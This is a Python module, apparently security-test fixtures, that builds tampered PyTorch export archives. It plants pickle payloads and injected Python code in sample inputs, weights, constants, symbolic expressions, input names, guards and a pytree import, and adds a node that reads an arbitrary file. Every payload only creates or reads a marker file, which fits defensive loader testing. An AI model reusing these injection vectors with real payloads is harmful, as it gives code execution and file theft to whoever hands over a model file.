"""Exported programs, honest ones and such as attack whoever opens them."""

import io
import json
import pickle
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import torch
from torch import nn
from torch.export import Dim

MODEL = "models/model.json"


WEIGHTS = "data/weights/model_weights_config.json"


CONSTANTS = "data/constants/model_constants_config.json"


SAMPLES = "data/sample_inputs/model.pt"


Members = dict[str, bytes]


class Small(nn.Module):
    def __init__(self) -> None:
        super().__init__()
        self.conv = nn.Conv2d(3, 4, 3)
        self.fc = nn.Linear(4, 5)

    def forward(self, images: torch.Tensor) -> torch.Tensor:
        return self.fc(self.conv(images).relu().mean((2, 3)))


def save(module: nn.Module, path: Path, dynamic: bool = True, size: int = 224) -> Path:
    shapes = ({0: Dim("batch")},) if dynamic else None
    images = (torch.randn(2, 3, size, size),)
    torch.export.save(torch.export.export(module.eval(), images, dynamic_shapes=shapes), path)
    return path


def read(path: Path) -> Members:
    with zipfile.ZipFile(path) as archive:
        return {name.partition("/")[2]: archive.read(name) for name in archive.namelist()}


def write(path: Path, members: Members, compression: int = zipfile.ZIP_STORED) -> Path:
    with zipfile.ZipFile(path, "w", compression) as archive:
        for name, content in members.items():
            archive.writestr(f"evil/{name}", content)
    return path


class Payload:
    """Creates the marker file when it is unpickled."""

    def __init__(self, marker: Path) -> None:
        self.marker = marker

    def __reduce__(self) -> tuple[Any, ...]:
        return (open, (str(self.marker), "w"))


def edit(members: Members, name: str, change: Callable[[Any], None]) -> None:
    content = json.loads(members[name])
    change(content)
    members[name] = json.dumps(content).encode()


def torch_pickle(marker: Path) -> bytes:
    buffer = io.BytesIO()
    torch.save(Payload(marker), buffer)
    return buffer.getvalue()


def pickled_samples(members: Members, marker: Path) -> None:
    members[SAMPLES] = torch_pickle(marker)


def pickled_weight(members: Members, marker: Path) -> None:
    members["data/weights/weight_0"] = torch_pickle(marker)
    edit(members, WEIGHTS, lambda c: next(iter(c["config"].values())).update(use_pickle=True))


def opaque_constant(members: Members, marker: Path) -> None:
    members["data/constants/opaque_obj_0"] = pickle.dumps(Payload(marker))
    entry = {"path_name": "opaque_obj_0", "is_param": False, "use_pickle": True}
    edit(members, CONSTANTS, lambda c: c["config"].update(o={**entry, "tensor_meta": None}))


def python(marker: Path) -> str:
    return f"__import__('pathlib').Path('{marker}').touch()"


def symbolic_expression(members: Members, marker: Path) -> None:
    honest_text = json.dumps("Symbol('s")[:-1].encode()
    text = members[MODEL]
    start = text.index(honest_text)
    end = text.index(b'"', start + 1) + 1
    members[MODEL] = text.replace(text[start:end], json.dumps(python(marker)).encode())


def input_name(members: Members, marker: Path) -> None:
    name = json.dumps(f"images={python(marker)}").encode()
    members[MODEL] = members[MODEL].replace(b'"images"', name)


def guard(members: Members, marker: Path) -> None:
    edit(members, MODEL, lambda c: c.update(guards_code=[python(marker)]))


def pytree_import(members: Members, marker: Path) -> None:
    module = marker.parent / f"evil_{marker.name}.py"
    module.write_text(f"import pathlib; pathlib.Path({str(marker)!r}).touch()\nlist = list\n")
    context = {
        "default_factory_module": module.stem,
        "default_factory_name": "list",
        "dict_context": [],
    }
    tree = {"type": "collections.defaultdict", "context": context, "children_spec": []}

    def change(content: Any) -> None:
        signature = content["graph_module"]["module_call_graph"][0]["signature"]
        signature["out_spec"] = json.dumps([1, tree])

    edit(members, MODEL, change)


def from_file(members: Members, marker: Path) -> None:
    def change(content: Any) -> None:
        graph = content["graph_module"]["graph"]
        graph["tensor_values"]["stolen"] = next(iter(graph["tensor_values"].values()))
        arguments = {
            "filename": ({"as_string": str(marker)}, 1),
            "shared": ({"as_bool": True}, 1),
            "size": ({"as_int": 16}, 1),
        }
        call = {
            "target": "torch.ops.aten.from_file.default",
            "inputs": [{"name": k, "arg": a, "kind": n} for k, (a, n) in arguments.items()],
            "outputs": [{"as_tensor": {"name": "stolen"}}],
            "metadata": {},
            "name": "stolen",
        }
        graph["nodes"].insert(0, call)

    edit(members, MODEL, change)


ATTACKS = [
    pickled_samples,
    pickled_weight,
    opaque_constant,
    symbolic_expression,
    input_name,
    guard,
    pytree_import,
    from_file,
]


DROPPED = {"pickled_samples", "guard"}
